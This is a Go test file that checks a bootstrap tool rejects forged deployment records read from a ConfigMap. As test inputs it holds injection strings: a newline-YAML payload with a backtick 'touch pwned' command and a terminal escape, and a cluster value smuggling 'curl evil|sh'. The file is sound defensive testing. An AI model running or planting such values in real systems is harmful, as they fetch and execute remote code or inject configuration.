package bootstrap

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/uc-cdis/gen3-bootstrap/internal/plan"
)

// goodRecord is what an up with every setting writes.
func goodRecord() Recorded {
	r := Recorded{
		Account: "123456789012", Region: "us-east-1", Partition: "aws", Cluster: "0a1b2c3d-0000-4000-8000-000000000000", IRSA: true, UseGlobalUser: true,
		Boundary: "arn:aws:iam::123456789012:policy/b", Tags: []string{"team=x"}, PolicyName: "p", UserName: "u", IAMPath: "/x/",
		SecretNames: []string{"a"}, SecretPrefixes: []string{"prod/"}, KMSKeys: []string{"arn:aws:kms:us-east-1:123456789012:key/1"}, AllowPush: true,
		GlobalUserSecret: "g", RoleName: "r", ServiceAccount: "sa", OIDCIssuer: "https://oidc.eks.us-east-1.amazonaws.com/id/1",
		Release: "eso", ReleaseNamespace: "ops",
	}
	r.Made = r.settings().names("r", r.OIDCIssuer, r.Cluster)
	return r
}

// of is the first thing of a kind that was made.
func of(r *Recorded, kind string) *Made {
	return &r.Made[slices.IndexFunc(r.Made, func(m Made) bool { return m.Kind == kind })]
}

// TestRecordIsJudgedLikeFlags: whoever may edit ConfigMaps in the namespace writes the record.
func TestRecordIsJudgedLikeFlags(t *testing.T) {
	t.Parallel()
	const evil = "x\nfence:\n  image: evil\n#`touch pwned`\x1b[2K"
	for name, test := range map[string]struct {
		forge func(*Recorded)
		names string // what the error must name; "": it is legal
	}{
		"as an up writes it": {func(*Recorded) {}, ""},
		"of a teardown in part": {func(r *Recorded) {
			*r = Recorded{Account: r.Account, Region: r.Region, Partition: r.Partition, Cluster: r.Cluster, IRSA: r.IRSA}
		}, ""},
		"account":              {func(r *Recorded) { r.Account = evil }, "--account"},
		"no account":           {func(r *Recorded) { r.Account = "" }, "--account"},
		"region":               {func(r *Recorded) { r.Region = evil }, "--region"},
		"partition":            {func(r *Recorded) { r.Partition = "aws-cn" }, "partition"},
		"cluster":              {func(r *Recorded) { r.Cluster = "zzz; curl evil|sh #" }, "cluster"},
		"boundary":             {func(r *Recorded) { r.Boundary = evil }, "--permissions-boundary"},
		"tag":                  {func(r *Recorded) { r.Tags = []string{evil} }, "--tag"},
		"a reserved tag":       {func(r *Recorded) { r.Tags = []string{"gen3-bootstrap/owner/x=y"} }, "--tag"},
		"policy":               {func(r *Recorded) { r.PolicyName = evil }, "--policy-name"},
		"user":                 {func(r *Recorded) { r.UserName = evil }, "--user-name"},
		"path":                 {func(r *Recorded) { r.IAMPath = evil }, "--iam-path"},
		"Secret":               {func(r *Recorded) { r.SecretNames = []string{evil} }, "--secret-name"},
		"prefix":               {func(r *Recorded) { r.SecretPrefixes = []string{"*"} }, "--secret-prefix"},
		"KMS key":              {func(r *Recorded) { r.KMSKeys = []string{evil} }, "--kms-key"},
		"global user's Secret": {func(r *Recorded) { r.GlobalUserSecret = evil }, "--global-user-secret"},
		"role":                 {func(r *Recorded) { r.RoleName = evil }, "--role-name"},
		"ServiceAccount":       {func(r *Recorded) { r.ServiceAccount = evil }, "--service-account"},
		"issuer":               {func(r *Recorded) { r.OIDCIssuer = "http://evil" }, "--oidc-issuer: "},
		"release":              {func(r *Recorded) { r.Release = evil }, "--release"},
		"release's namespace":  {func(r *Recorded) { r.ReleaseNamespace = evil }, "--release-namespace"},
		"what was made":        {func(r *Recorded) { r.Made = append(r.Made, r.Made[0]) }, ""},
		"of another account":   {func(r *Recorded) { r.Made[0].Account = evil }, "--account"},
		"of no account":        {func(r *Recorded) { r.Made[0].Account = "" }, "--account"},
		"of no kind":           {func(r *Recorded) { r.Made[0].Kind = "" }, "kind"},
		"of another kind":      {func(r *Recorded) { r.Made[0].Kind = evil }, "kind"},
		"without a name":       {func(r *Recorded) { r.Made[0].Name = "" }, "name of one helm-release is missing"},
		"made release":         {func(r *Recorded) { of(r, plan.HelmRelease).Name = evil }, "--release"},
		"its namespace":        {func(r *Recorded) { of(r, plan.HelmRelease).Namespace = evil }, "--release-namespace"},
		"made policy":          {func(r *Recorded) { of(r, plan.IAMPolicy).Name = evil }, "--policy-name"},
		"its path":             {func(r *Recorded) { of(r, plan.IAMPolicy).Path = evil }, "--iam-path"},
		"made user":            {func(r *Recorded) { of(r, plan.IAMUser).Name = evil }, "--user-name"},
		"made provider":        {func(r *Recorded) { of(r, plan.OIDCProvider).Name = evil }, "--oidc-issuer"},
		"made role":            {func(r *Recorded) { of(r, plan.IAMRole).Name = evil }, "--role-name"},
		"its issuer":           {func(r *Recorded) { of(r, plan.IAMRole).Issuer = evil }, "--oidc-issuer"},
		"its ServiceAccount":   {func(r *Recorded) { of(r, plan.IAMRole).ServiceAccount = evil }, "--service-account"},
		"its cluster":          {func(r *Recorded) { of(r, plan.IAMRole).Cluster = evil }, "cluster"},
		"made Secret":          {func(r *Recorded) { of(r, plan.Secret).Name = evil }, "--secret-name"},
		"its user":             {func(r *Recorded) { of(r, plan.Secret).User = evil }, "--user-name"},
		"two hundred and one":  {func(r *Recorded) { r.Made = make([]Made, 201) }, "201 things"},
		"two things":           {func(r *Recorded) { r.UserName, r.RoleName = evil, evil }, "1 other value"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := goodRecord()
			test.forge(&r)
			text, err := json.Marshal(r)
			if err != nil {
				t.Fatal(err)
			}
			got, err := parseRecorded(text)
			switch {
			case test.names == "" && (err != nil || Normal(*got) != Normal(r)):
				t.Errorf("error %v, got %+v", err, got)
			case test.names != "" && (err == nil || !strings.Contains(err.Error(), test.names)):
				t.Errorf("error %v does not name %s", err, test.names)
			case err != nil && strings.ContainsAny(err.Error(), "\x1b\n"):
				t.Errorf("the error is not printable: %q", err)
			}
		})
	}
}

func TestRecordThatIsNone(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", "null x", "[]", `{"userName": 1}`, `{"surprise": true}`, strings.Repeat("[", 10_000)} {
		if got, err := parseRecorded([]byte(text)); err == nil {
			t.Errorf("%.20q was taken for %+v", text, got)
		}
	}
}
